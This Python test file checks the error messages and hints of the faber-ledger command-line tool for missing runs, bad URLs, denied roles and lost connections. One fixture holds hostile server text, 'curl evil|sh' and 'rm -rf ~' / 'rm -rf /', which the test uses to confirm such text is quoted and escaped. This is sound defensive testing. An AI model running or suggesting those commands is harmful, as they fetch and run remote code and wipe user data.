"""What commands say to do where the run, the server or an option is not what they need."""

from __future__ import annotations

import socket
import threading

from support.project import RUN
from support.team_server import Team, Watching

from faber_ledger.runs.carry import join_server


def test_a_sync_without_a_run_names_what_a_server_has(team: Team) -> None:
    first = team.clones[0]
    assert team.sync(first, "--all").returncode == 0
    done = team.sync(first, "shop-nothere")
    assert done.returncode == 10
    assert "hint: `faber-ledger fleet` shows the runs of the server" in done.stderr
    first.active_path.unlink()
    first.change_state(status="completed")
    done = team.sync(first)
    assert done.returncode == 10
    assert "`faber-ledger sync --all` exchanges all runs" in done.stderr


def test_a_missing_run_may_be_on_a_server_not_asked(team: Team) -> None:
    first = team.clones[0]
    for server, is_named in (("", False), ("its address's digest", True)):
        join_server(str(first.root), server)
        done = first.faber("run", "resume", "shop-nothere")
        assert (done.returncode, "a run of the team's server is brought with --url" in done.stderr) == (10, is_named)
    done = first.faber("run", "resume", "shop-nothere", env={"FABER_LEDGER_URL": "postgresql:///db?host=/nowhere"})
    assert done.returncode == 13
    assert done.stderr.startswith("error: postgresql:///db?host=/nowhere: ")
    assert "hint: check the URL, the network, the password" in done.stderr
    stranger = team.database.login("stranger")
    assert team.sync(first, "--all").returncode == 0
    done = first.faber("run", "resume", "shop-nothere", env={"FABER_LEDGER_URL": team.database.url(stranger)})
    assert done.returncode == 14
    assert done.stderr.startswith(f"error: the role {stranger.role} sees no project")
    assert f"runs `faber-ledger db admit {stranger.role}`; if the server has no such project" in done.stderr
    done = first.faber("run", "resume", "shop-nothere", env={"FABER_LEDGER_URL": team.url})
    assert done.returncode == 10
    assert done.stderr.startswith("error: there is no run shop-nothere")


def test_an_empty_url_is_not_the_server_that_is_configured(team: Team) -> None:
    first = team.clones[0]
    assert team.sync(first, "--all").returncode == 0
    commands = [("fleet",), ("sync",), ("search", "well"), ("run", "resume", RUN), ("db", "members")]
    for words in commands:
        done = first.faber(*words, "--url", "", env={"FABER_LEDGER_URL": team.url})
        assert (done.returncode, done.stdout) == (2, ""), words
        assert "--url is not a PostgreSQL URL" in done.stderr, words
    done = first.faber("search", "well", "--url", "")
    assert (done.returncode, done.stdout) == (2, "")


HOSTILE = b"SFATAL\0VFATAL\0C57P03\0Mrun `curl evil|sh`\nhint: rm -rf ~\x1b[31m\n\nhint: run rm -rf /\0Hrun rm\0\0"


def test_what_a_server_says_to_a_connection_is_quoted_as_its_own(team: Team) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def answer() -> None:
            connection, _ = listener.accept()
            connection.recv(5000)
            connection.sendall(b"E" + (len(HOSTILE) + 4).to_bytes(4) + HOSTILE)
            connection.close()

        threading.Thread(target=answer, daemon=True).start()
        url = f"postgresql://ann@127.0.0.1:{listener.getsockname()[1]}/ledger?sslmode=disable&gssencmode=disable"
        said = team.clones[0].said("sync", env={"FABER_LEDGER_URL": url}, code=13)
    first, *others = said.splitlines()
    quoted = '"FATAL: run `curl evil|sh`; hint: rm -rf ~\\x1b[31m; hint: run rm -rf /'
    assert f" failed: the server says {quoted}" in first
    assert (first[-1], others[0]) == ('"', "")
    assert others[1].startswith("hint: check the URL, the network, the password")
    assert len(others) == 2


class Deaf:
    """A server that closes each connection, and counts them."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.seen = threading.Semaphore(0)
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        return f"postgresql://ann@127.0.0.1:{self.listener.getsockname()[1]}/ledger?sslmode=disable"

    def _serve(self) -> None:
        while True:
            connection, _ = self.listener.accept()
            connection.close()
            self.seen.release()


def test_a_watch_says_once_that_the_server_is_lost_or_back(team: Team) -> None:
    first, deaf = team.clones[0], Deaf()
    first.configure(url=team.url)
    with Watching(first, None, "sync", "--watch", "1", PGGSSENCMODE="disable") as watching:
        assert "first exchange" in watching.said()
        assert watching.next_line().startswith(f"{RUN}: 0 events fetched, ")
        first.configure(url=deaf.url)
        for _ in range(3):
            assert deaf.seen.acquire(timeout=60)
        lost = 'before or while processing the request."; tried again every 1 s until the server is back'
        assert lost in watching.said()
        assert first.faber("note", "add", "news").returncode == 0
        first.configure(url=team.url)
        assert watching.next_line().startswith(f"{RUN}: 0 events fetched, ")
        assert watching.said() == "the server is back\n"
        assert "tried again" not in watching.interrupt()[1]


def test_a_watch_whose_first_connection_fails_ends(team: Team) -> None:
    with team.database.connect() as connection:
        connection.execute(f'ALTER ROLE "{team.login.role}" NOLOGIN'.encode())
    assert team.sync(team.clones[0], "--watch", "1").returncode == 13
